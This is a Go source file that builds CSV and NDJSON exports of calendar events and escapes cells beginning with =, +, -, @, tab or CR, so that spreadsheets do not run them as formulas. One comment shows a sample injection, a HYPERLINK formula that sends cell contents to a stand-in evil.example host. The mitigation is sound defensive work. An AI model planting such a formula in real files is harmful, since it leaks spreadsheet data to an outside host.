package models

import (
	"strconv"
	"strings"
	"unicode"
	"unicode/utf8"
)

// CSVFormulas is how a CSV export writes a text cell that a spreadsheet
// would run as a formula: one that begins with =, +, -, @, a tab or a
// carriage return (OWASP, "CSV Injection"). A title such as
// =HYPERLINK("http://evil.example/?"&A1, "click") would otherwise run in
// the owner's spreadsheet, and a title can come from anywhere an import
// or a shared calendar brings it.
type CSVFormulas uint8

const (
	// CSVFormulasEscaped writes such a cell with a leading ' (the default):
	// spreadsheets show the text and run nothing; the ' is the cell's
	// first character for a program that reads the file.
	CSVFormulasEscaped CSVFormulas = iota
	// CSVFormulasRaw writes every cell as stored (formulas=raw), for a
	// script that reads the file.
	CSVFormulasRaw
)

// IsCSVFormula reports whether a cell of text s would be read as a formula
// by a spreadsheet: it begins with =, +, -, @, a tab or a carriage return.
func IsCSVFormula(s string) bool {
	return s != "" && strings.IndexByte("=+-@\t\r", s[0]) >= 0
}

// AppendCSVRecord appends e's line of a CSV export (DESIGN.md, Export): text
// as it is, times as in JSON, true and false, numbers, and an empty cell for
// null, each cell as encoding/csv's Writer with UseCRLF writes it (RFC 4180:
// quoted when it holds a quote, a comma, a line break, or starts with white
// space; CRLF line ends). Written in place, a row's times, numbers and texts
// make no strings of their own (a year's export is 100,000 rows).
//
// With CSVFormulasEscaped, a text cell that IsCSVFormula gets a leading '.
// Only text cells can: every other cell is the server's own writing, a
// time (the API takes years 0001 to 9999, so four digits come first), true
// or false, or a number that is never negative (ids, and priority 0 to 3,
// held so by the database), so none begins with one of those characters,
// and a number stays a number.
func AppendCSVRecord(b []byte, e *Event, formulas CSVFormulas) []byte {
	for i := range EventFields {
		if i > 0 {
			b = append(b, ',')
		}
		f := &EventFields[i]
		switch f.Type {
		case TypeText, TypeEnum:
			s, _ := f.getText(e)
			if formulas == CSVFormulasEscaped && IsCSVFormula(s) {
				s = "'" + s // rare: the one string a row may make
			}
			b = appendCSVField(b, s)
		case TypeTime:
			if t := f.getTime(e); t != nil {
				b = AppendTime(b, *t)
			}
		case TypeBool:
			b = strconv.AppendBool(b, *f.getBool(e))
		default:
			b = strconv.AppendInt(b, f.getInt(e), 10)
		}
	}
	return append(b, "\r\n"...)
}

// AppendCSVHeader appends the header line of a CSV export: the event's JSON
// field names in the JSON order.
func AppendCSVHeader(b []byte) []byte {
	for i := range EventFields {
		if i > 0 {
			b = append(b, ',')
		}
		b = appendCSVField(b, EventFields[i].Name)
	}
	return append(b, "\r\n"...)
}

// appendCSVField appends one cell as encoding/csv's Writer with UseCRLF
// writes it: in quotes when it holds a quote, a comma, CR or LF, is `\.`,
// or starts with white space, each quote doubled, each LF written as CRLF
// and each CR dropped (stored text holds no CR).
func appendCSVField(b []byte, s string) []byte {
	if !csvNeedsQuotes(s) {
		return append(b, s...)
	}
	b = append(b, '"')
	for len(s) > 0 {
		i := strings.IndexAny(s, "\"\r\n")
		if i < 0 {
			i = len(s)
		}
		b = append(b, s[:i]...)
		s = s[i:]
		if len(s) > 0 {
			switch s[0] {
			case '"':
				b = append(b, `""`...)
			case '\n':
				b = append(b, "\r\n"...)
			}
			s = s[1:]
		}
	}
	return append(b, '"')
}

func csvNeedsQuotes(s string) bool {
	if s == "" {
		return false
	}
	if s == `\.` || strings.ContainsAny(s, "\",\r\n") {
		return true
	}
	r, _ := utf8.DecodeRuneInString(s)
	return unicode.IsSpace(r)
}

// AppendExportJSON appends one line of an NDJSON export: e's JSON with a
// "history" array of its history rows, oldest first, and a newline.
func AppendExportJSON(b []byte, e *Event, history []History) ([]byte, error) {
	b = e.AppendJSON(b)
	b = append(b[:len(b)-1], `,"history":[`...)
	for i, h := range history {
		if i > 0 {
			b = append(b, ',')
		}
		j, err := h.MarshalJSON()
		if err != nil {
			return b, err
		}
		b = append(b, j...)
	}
	return append(b, "]}\n"...), nil
}
